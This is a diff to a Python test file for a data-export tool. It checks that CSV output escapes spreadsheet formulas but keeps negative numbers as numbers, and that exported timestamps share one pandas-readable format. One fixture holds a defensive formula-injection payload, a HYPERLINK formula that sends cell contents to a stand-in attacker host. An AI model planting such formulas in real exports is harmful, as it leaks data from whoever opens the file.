@@ -254,7 +254,7 @@ def test_a_csv_export_opens_a_partners_formula_as_text(sample_db: str, tmp_path:
     sample_copy = f"sqlite:///{path}"
     link = '=HYPERLINK("https://evil.example/?leak="&A2,"C-1687")'
     with sqlite3.connect(path) as conn:
-        conn.execute("UPDATE transactions SET customer = ?", (link,))
+        conn.execute("UPDATE transactions SET customer = ?, order_value = '-12.50'", (link,))
         conn.execute("UPDATE exceptions SET summary = '=2+3', endpoint = '-1+1'")
     for what, column, expected in (("transactions", "customer", "'" + link), ("exceptions", "summary", "'=2+3")):
         out = tmp_path / f"{what}.csv"
@@ -263,6 +263,23 @@ def test_a_csv_export_opens_a_partners_formula_as_text(sample_db: str, tmp_path:
             rows = list(csv.DictReader(handle))
         assert rows and {row[column] for row in rows} == {expected}, (what, rows[0])
     assert {row["endpoint"] for row in rows} == {"'-1+1"}
+    with (tmp_path / "transactions.csv").open(newline="") as handle:
+        values = {row["order_value"] for row in csv.DictReader(handle)}
+    assert values == {"-12.50"}, "a credit is a number, no formula: it stays one"
+
+
+def test_exported_times_have_one_format_that_pandas_reads(sample_db: str, tmp_path: Path) -> None:
+    """A time on a whole second lost its microseconds: the column had two formats and pandas refused it."""
+    import pandas as pd
+
+    out = tmp_path / "transactions.jsonl"
+    assert syncwatch("export", "transactions", "--db", sample_db, "--out", str(out)).returncode == 0
+    rows = [json.loads(line) for line in out.read_text().splitlines()]
+    times = [r["due_at"] for r in rows if r["due_at"]] + [
+        s[k] for r in rows for s in r["stages"] for k in ("reached_at", "due_at") if s[k]
+    ]
+    assert times and all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}\+00:00", t) for t in times)
+    assert pd.to_datetime(pd.Series(times)).notna().all()
 
 
 def test_an_empty_csv_export_still_names_its_columns(tmp_path: Path) -> None:
